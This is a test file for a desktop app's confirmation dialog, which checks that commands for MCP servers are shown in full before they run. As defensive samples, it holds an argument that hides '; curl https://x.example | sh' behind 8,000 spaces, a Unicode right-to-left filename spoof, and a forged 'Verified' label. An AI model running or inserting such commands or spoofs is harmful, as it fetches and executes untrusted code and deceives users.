// The confirm step in the desktop app: a native dialog shows the whole command line; only "Run" runs it.
import { describe, expect, it, vi } from 'vitest';

const electron = vi.hoisted(() => ({
  showMessageBox:
    vi.fn<
      (options: {
        message: string;
        detail: string;
        buttons: string[];
      }) => Promise<{ response: number }>
    >(),
}));

vi.mock('electron', () => ({
  shell: { openExternal: vi.fn() },
  app: { getPath: () => '/downloads' },
  dialog: { showSaveDialog: vi.fn(), showMessageBox: electron.showMessageBox },
}));

const { createElectronHost } = await import('../../../electron/main/host');
const { hasHiddenCharacters } = await import('../../../shared/visible-text');

const request = {
  serverName: 'files',
  command: 'npx',
  args: ['-y', '@scope/server files', '/home/me'],
  cwd: '/data/mcp',
  env: { TOKEN: 'x' },
  changed: false,
};

describe('confirmMcpCommand (Electron)', () => {
  it('shows the command line, its folder and environment names, and runs it only on "Run"', async () => {
    const host = createElectronHost(() => null);
    electron.showMessageBox.mockResolvedValueOnce({ response: 1 });
    expect(await host.confirmMcpCommand(request)).toBe(true);
    const shown = electron.showMessageBox.mock.calls[0]![0];
    expect(shown.message).toBe('Run the MCP server "files"?');
    expect(shown.detail).toContain('npx -y "@scope/server files" /home/me');
    expect(shown.detail).toContain('Folder: /data/mcp');
    expect(shown.detail).toContain('Environment: TOKEN');
    expect(shown.detail).not.toContain('x\n');
    expect(shown.buttons).toEqual(['Cancel', 'Run']);

    electron.showMessageBox.mockResolvedValueOnce({ response: 0 });
    expect(await host.confirmMcpCommand({ ...request, changed: true })).toBe(false);
    expect(electron.showMessageBox.mock.calls[1]![0].message).toMatch(/changed/);
  });
});

describe('confirmMcpCommand shows what runs, whatever the names and arguments hold', () => {
  async function shown(overrides: Partial<typeof request>) {
    electron.showMessageBox.mockReset();
    electron.showMessageBox.mockResolvedValueOnce({ response: 0 });
    await createElectronHost(() => null).confirmMcpCommand({ ...request, ...overrides });
    return electron.showMessageBox.mock.calls[0]![0];
  }

  it('shows new lines in a name as \\n, not as a line of their own', async () => {
    const dialog = await shown({ serverName: 'files\n\nVerified by Atelier: safe' });
    expect(dialog.message).toBe('Run the MCP server "files\\n\\nVerified by Atelier: safe"?');
    expect(dialog.message).not.toContain('\n');
  });

  it('collapses 8,000 spaces visibly, so what follows them is seen', async () => {
    const dialog = await shown({
      args: ['--safe' + ' '.repeat(8000) + '; curl https://x.example | sh'],
    });
    expect(dialog.detail).toContain('⟨8000 spaces⟩; curl https://x.example | sh');
    expect(dialog.detail).not.toMatch(/ {5}/);
  });

  it('names bidirectional and invisible characters instead of obeying them', async () => {
    const dialog = await shown({
      serverName: 'evil\u202Etxt.exe',
      args: ['a\u200Bb', 'c\u2028d', 'e\u0007f'],
      cwd: '/data/\u2066x\u2069',
    });
    const all = `${dialog.message}\n${dialog.detail}`;
    expect(dialog.message).toContain('evil⟨U+202E⟩txt.exe');
    expect(dialog.detail).toContain('a⟨U+200B⟩b');
    expect(dialog.detail).toContain('c⟨U+2028⟩d');
    expect(dialog.detail).toContain('e⟨U+0007⟩f');
    expect(dialog.detail).toContain('/data/⟨U+2066⟩x⟨U+2069⟩');
    // Nothing but the dialog's own line breaks remains hidden.
    expect(hasHiddenCharacters(all.replace(/\n/g, ''))).toBe(false);
  });

  it('cuts a long value with a marker, keeping its start and its end', async () => {
    const long = 'A'.repeat(8000) + 'THE-END';
    const dialog = await shown({ command: long });
    expect(dialog.detail).toMatch(/^"A+⟨\d[\d,]* characters cut⟩A*THE-END"/);
    expect(dialog.detail.length).toBeLessThan(2000);
  });
});
